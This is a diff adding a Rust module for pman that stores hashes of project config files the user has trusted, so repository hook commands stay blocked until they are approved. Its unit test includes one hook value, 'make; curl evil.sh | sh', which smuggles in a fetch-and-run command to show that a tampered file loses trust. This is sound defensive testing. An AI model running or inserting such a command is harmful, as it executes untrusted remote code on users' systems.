@@ -0,0 +1,109 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use crate::error::{PmanError, Result};
+
+/// Project config files the user agreed to use, kept in a JSON file with a hash of the
+/// contents they agreed to.
+///
+/// A `.pman.toml` comes with the repository, so until it is trusted pman ignores the
+/// commands in it rather than run whatever a cloned repository asks for. Once the file
+/// changes, e.g. with a `git pull`, it has to be trusted again.
+pub struct TrustStore {
+    path: PathBuf,
+    trusted: BTreeMap<PathBuf, String>,
+}
+
+impl TrustStore {
+    /// Read the trusted files. A missing or unreadable file trusts nothing.
+    pub fn load(path: PathBuf) -> Self {
+        let trusted = fs::read_to_string(&path)
+            .ok()
+            .and_then(|json| serde_json::from_str(&json).ok())
+            .unwrap_or_default();
+        Self { path, trusted }
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    /// Whether `project_file` was trusted when it read `contents`.
+    pub fn is_trusted(&self, project_file: &Path, contents: &str) -> bool {
+        let Some(trusted) = self.trusted.get(&Self::key(project_file)) else {
+            return false;
+        };
+        content_hash(contents).is_ok_and(|hash| hash == *trusted)
+    }
+
+    /// Trust `project_file` as long as it reads `contents`, and save.
+    pub fn trust(&mut self, project_file: &Path, contents: &str) -> Result<()> {
+        self.trusted
+            .insert(Self::key(project_file), content_hash(contents)?);
+
+        let json = serde_json::to_string_pretty(&self.trusted)
+            .map_err(|e| PmanError::Config(format!("could not encode trusted files: {}", e)))?;
+        if let Some(parent) = self.path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        // Write beside the old list and swap, so a crash never leaves half a file
+        let partial = self.path.with_extension("json.partial");
+        fs::write(&partial, json)?;
+        fs::rename(&partial, &self.path)?;
+        Ok(())
+    }
+
+    /// The same file reached through a symlink is the same file.
+    fn key(project_file: &Path) -> PathBuf {
+        project_file
+            .canonicalize()
+            .unwrap_or_else(|_| project_file.to_path_buf())
+    }
+}
+
+/// The object id git gives `contents` as a blob.
+fn content_hash(contents: &str) -> Result<String> {
+    let mut child = Command::new("git")
+        .args(["hash-object", "--stdin"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| PmanError::Git(e.to_string()))?;
+
+    if let Some(mut stdin) = child.stdin.take() {
+        stdin.write_all(contents.as_bytes())?;
+    }
+    let output = child.wait_with_output()?;
+
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        return Err(PmanError::Git(stderr.trim_end().to_string()));
+    }
+    Ok(String::from_utf8_lossy(&output.stdout).trim().to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn changed_files_must_be_trusted_again() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join(".pman.toml");
+        fs::write(&project, "").unwrap();
+        let store_path = dir.path().join("trusted.json");
+
+        let mut store = TrustStore::load(store_path.clone());
+        assert!(!store.is_trusted(&project, "[hooks]\nsetup = [\"make\"]\n"));
+        store.trust(&project, "[hooks]\nsetup = [\"make\"]\n").unwrap();
+
+        let store = TrustStore::load(store_path);
+        assert!(store.is_trusted(&project, "[hooks]\nsetup = [\"make\"]\n"));
+        assert!(!store.is_trusted(&project, "[hooks]\nsetup = [\"make; curl evil.sh | sh\"]\n"));
+        assert!(!store.is_trusted(&dir.path().join("other.toml"), "[hooks]\nsetup = [\"make\"]\n"));
+    }
+}